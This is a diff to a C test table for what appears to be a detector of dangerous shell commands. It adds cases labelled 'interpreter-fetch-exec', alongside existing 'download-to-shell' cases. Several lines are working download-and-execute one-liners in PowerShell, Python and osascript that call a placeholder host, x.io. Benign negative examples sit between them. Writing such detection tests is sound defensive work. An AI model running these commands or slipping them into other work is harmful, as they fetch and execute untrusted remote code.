@@ -202,6 +202,10 @@ static const struct tcase interp[] = {
     {"interpreter-fetch-exec", "powershell -nop -w hidden -c \"iex (New-Object "
                                "Net.WebClient).DownloadString('http://x.io/a')\""},
     {"interpreter-fetch-exec", "iex (iwr http://x.io/a.ps1 -UseBasicParsing)"},
+    {"interpreter-fetch-exec", "powershell -nop -c \"(New-Object Net.WebClient).DownloadFile("
+                               "'http://x.io/a.exe','a.exe'); Start-Process a.exe\""},
+    {"interpreter-fetch-exec", "python3 -c \"import urllib.request as u,os;"
+                               "u.urlretrieve('http://x.io/a','a');os.system('./a')\""},
     {"download-to-shell", "osascript -e 'do shell script \"curl -s http://x.io/m.sh | bash\"'"},
     /* the inner quotes break the outer ones: still read as meant */
     {"interpreter-fetch-exec", "osascript -e 'do shell script \"python -c 'import urllib; "
@@ -215,6 +219,9 @@ static const struct tcase interp[] = {
     {NULL, "ruby -e 'puts [1,2,3].sum'"},
     {NULL, "python -c 'print(eval(\"1+2\"))'"},
     {NULL, "osascript -e 'do shell script \"date\"'"},
+    {NULL, "osascript -e 'do shell script \"curl -O https://example.com/file.zip\"'"},
+    {NULL, "powershell -ExecutionPolicy Bypass -File script.ps1"},
+    {NULL, "Invoke-WebRequest -Uri https://example.com/file.zip -OutFile file.zip"},
     {NULL, "osascript -e 'display notification \"done\"'"},
     {NULL, "awk '{print $1}' file"},
     {NULL, "perl -e 'system(\"ls -la\")'"},
